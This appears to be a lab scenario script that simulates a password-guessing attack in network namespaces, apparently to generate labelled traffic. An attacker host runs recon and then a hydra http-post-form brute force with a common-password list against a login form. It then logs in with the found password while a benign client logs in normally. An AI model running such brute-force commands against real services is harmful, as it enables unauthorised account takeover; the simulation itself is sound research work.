# sourced by run-scenario.sh: the story played between the hosts
# Password guessing: hydra's http-post-form module against the login form of index.php with
# a short list that holds the right password, so the brute force ends in a success (302 to
# /editprofile.php); then the attacker logs in by hand and looks around. A benign client logs
# in correctly (bob) while the brute force runs.
NET=172.31.200; ATT=99; VIC=10; CLI=23; DNS=2; SHELLPORT=0
play() {
  note "attacker $A; victim $V (Apache+PHP on port 80); benign client $C; dns server $D"
  benign_background
  note "1 recon: the attacker opens the login page with a Firefox UA and tries admin/admin by hand (fails: 'Invalid username or password')"
  nsx att curl -s -A "$BROWSER" -o /dev/null $URL/
  sleep 1
  nsx att curl -s -A "$BROWSER" -d "username=admin&password=admin" -o /dev/null $URL/index.php
  sleep 2
  printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon \
    123123 baseball abc123 football monkey letmein shadow master 666666 qwertyuiop \
    123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 \
    qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster \
    soccer harley batman andrew tigger sunshine iloveyou 2000 charlie robert \
    'S3cr3t!' thomas hockey ranger daniel starwars klaster 112233 george computer > "$RUN/passwords.txt"
  note "2 login brute force: hydra 9.4 (UA 'Mozilla/5.0 (Hydra)') http-post-form on /index.php, user admin, $(wc -l < "$RUN/passwords.txt") passwords, 4 tasks, -f (stop at first hit); the right one (S3cr3t!, line $(grep -n -x 'S3cr3t!' "$RUN/passwords.txt" | cut -d: -f1)) gets 302 Location: /editprofile.php"
  ( sleep 1.2; nsx cli curl -s -A "$CHROME" -d "username=bob&password=bobthe" -o /dev/null $URL/index.php ) & local bobpid=$!
  nsx att hydra -l admin -P "$RUN/passwords.txt" -t 4 -f -I -o "$RUN/logs/hydra.found" $V http-post-form \
      "/index.php:username=^USER^&password=^PASS^:F=Invalid username or password" >"$RUN/logs/hydra.log" 2>&1 || true
  wait $bobpid
  sleep 3
  note "3 the attacker logs in by hand with the found password (admin/S3cr3t!, Firefox UA): 302 to /editprofile.php, then browses /editprofile.php /uploads/ /browse.php /about.php"
  nsx att curl -s -A "$BROWSER" --data-urlencode "username=admin" --data-urlencode 'password=S3cr3t!' -o /dev/null $URL/index.php
  for p in /editprofile.php /uploads/ /browse.php /about.php; do sleep 1.1; nsx att curl -s -A "$BROWSER" -o /dev/null $URL$p; done
  benign_background
}
